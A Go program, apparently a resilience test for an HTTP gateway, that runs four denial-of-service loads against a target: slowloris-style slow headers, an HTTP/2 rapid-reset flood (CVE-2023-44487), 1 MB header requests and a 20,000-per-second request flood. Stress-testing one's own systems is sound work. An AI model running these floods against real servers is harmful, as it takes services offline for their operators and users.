package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"log"
	"net"
	"net/http"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// loads are the attacks, in the order in which they are tried.
var loads = []string{"1,000 slow heads", "rapid reset", "1 MB headers", "20,000 strangers a second"}

// attack runs one load for a while and says what it came to.
func attack(name, to string, length time.Duration) string {
	until := time.Now().Add(length)
	var n atomic.Int64
	switch name {
	case loads[0]:
		crowd(1000, func() {
			for time.Now().Before(until) { // a new one for each that is cut
				n.Add(1)
				slowHead(to, until)
			}
		})
		return fmt.Sprintf("%d connections", n.Load())
	case loads[1]:
		crowd(8, func() {
			for time.Now().Before(until) {
				reset(to, until, &n)
			}
		})
	case loads[2]:
		crowd(8, func() {
			for next := time.Now(); time.Now().Before(until); next = next.Add(perBigHead) {
				time.Sleep(time.Until(next))
				bigHead(to)
				n.Add(1)
			}
		})
	case loads[3]:
		crowd(64, func() {
			for time.Now().Before(until) {
				strangers(to, until, &n)
			}
		})
	default:
		log.Fatalf("no load is called %q", name)
	}
	return fmt.Sprintf("%.0f/s", float64(n.Load())/length.Seconds())
}

func crowd(size int, do func()) {
	var all sync.WaitGroup
	for range size {
		all.Go(do)
	}
	all.Wait()
}

// dial waits a moment where the gateway takes no more: that is its right.
func dial(to string, until time.Time) net.Conn {
	c, err := net.DialTimeout("tcp", to, time.Second)
	if err != nil {
		time.Sleep(10 * time.Millisecond)
		return nil
	}
	_ = c.SetDeadline(until)
	return c
}

// slowHead sends a byte a second and never comes to the end.
func slowHead(to string, until time.Time) {
	c := dial(to, until)
	if c == nil {
		return
	}
	defer c.Close()
	for _, b := range []byte("GET /1k HTTP/1.1\r\nHost: " + to) {
		if _, err := c.Write([]byte{b}); err != nil {
			return
		}
		time.Sleep(min(time.Second, time.Until(until)))
	}
}

// reset opens streams and takes each back at once, on one connection after
// another (CVE-2023-44487): it does not wait to be cut.
func reset(to string, until time.Time, n *atomic.Int64) {
	c := dial(to, until)
	if c == nil {
		return
	}
	defer c.Close()
	go hangUp(c)
	w := bufio.NewWriter(c)
	_, _ = w.WriteString(http2.ClientPreface)
	framer := http2.NewFramer(w, nil)
	_ = framer.WriteSettings()
	var head bytes.Buffer
	encoder := hpack.NewEncoder(&head)
	for stream := uint32(1); stream < 1<<20; stream += 2 {
		head.Reset()
		for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", to}, {":path", "/1k"}} {
			_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
		}
		_ = framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true, EndStream: true})
		if err := framer.WriteRSTStream(stream, http2.ErrCodeCancel); err != nil {
			return
		}
		n.Add(1)
	}
}

// hangUp ends a connection as soon as it is told to go, to come again.
func hangUp(c net.Conn) {
	defer c.Close()
	for in := http2.NewFramer(nil, c); ; {
		frame, err := in.ReadFrame()
		if err != nil {
			return
		}
		if _, is := frame.(*http2.GoAwayFrame); is {
			return
		}
	}
}

// perBigHead is how often each of 8 connections comes, to send what a line of
// one gigabit a second carries. More is a matter of the machine's own memory.
const perBigHead = 8 * time.Second / 120

var megabyte = strings.Repeat("x", 1<<20)

func bigHead(to string) {
	c := dial(to, time.Now().Add(5*time.Second))
	if c == nil {
		return
	}
	defer c.Close()
	_, _ = io.WriteString(c, "GET /1k HTTP/1.1\r\nHost: "+to+"\r\nX-Big: "+megabyte+"\r\n\r\n")
	_, _ = io.Copy(io.Discard, c)
}

// perStranger is how often each of 64 connections asks, to make 20,000 a second.
const perStranger = 64 * time.Second / 20_000

// strangers ask without a session, as often as they can up to that.
func strangers(to string, until time.Time, n *atomic.Int64) {
	c := dial(to, until)
	if c == nil {
		return
	}
	defer c.Close()
	in := bufio.NewReader(c)
	for next := time.Now(); time.Now().Before(until); next = next.Add(perStranger) {
		time.Sleep(time.Until(next))
		if _, err := io.WriteString(c, "GET /1k HTTP/1.1\r\nHost: "+to+"\r\nAccept: */*\r\n\r\n"); err != nil {
			return
		}
		res, err := http.ReadResponse(in, nil)
		if err != nil {
			return
		}
		_, _ = io.Copy(io.Discard, res.Body)
		n.Add(1)
	}
}
